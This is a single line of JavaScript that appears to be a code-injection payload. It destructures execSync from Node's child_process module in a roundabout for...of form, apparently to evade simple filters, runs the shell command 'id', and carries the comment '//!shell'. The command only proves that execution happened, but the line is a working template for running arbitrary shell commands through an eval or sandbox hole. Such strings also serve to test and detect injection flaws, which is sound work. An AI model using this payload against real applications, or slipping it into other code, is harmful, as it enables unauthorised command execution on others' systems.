for (const { execSync: r } of [require('child_process')]) r('id');  //!shell
